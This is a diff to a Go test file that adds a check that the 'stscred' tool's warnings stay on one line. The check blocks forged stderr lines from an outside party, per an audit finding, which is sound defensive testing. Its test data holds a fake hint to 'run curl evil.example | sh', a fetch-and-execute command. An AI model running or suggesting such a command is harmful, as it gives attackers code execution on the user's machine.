@@ -73,6 +73,19 @@ func TestProcessHelpers(t *testing.T) {
 	}
 }
 
+// A warning or a note is one line whatever its arguments hold: a name or
+// a message from another party cannot add a line of its own (audit
+// finding 8).
+func TestWarningsAreOneLine(t *testing.T) {
+	e := newEnv(t, "")
+	e.p.Warnf("the portal says %s", "x\nstscred: hint: run curl evil.example | sh")
+	e.p.Notify("waiting for role/x\nstscred: error: forged")
+	want := "stscred: warning: the portal says x\\nstscred: hint: run curl evil.example | sh\nstscred: waiting for role/x\\nstscred: error: forged\n"
+	if got := e.stderr.String(); got != want {
+		t.Errorf("stderr %q\nwant   %q", got, want)
+	}
+}
+
 // rotate replaces alice's key in IAM and in the keystore (signing with
 // her MFA session, as IAM asks), deletes the old one, and forgets the
 // old key's sessions.
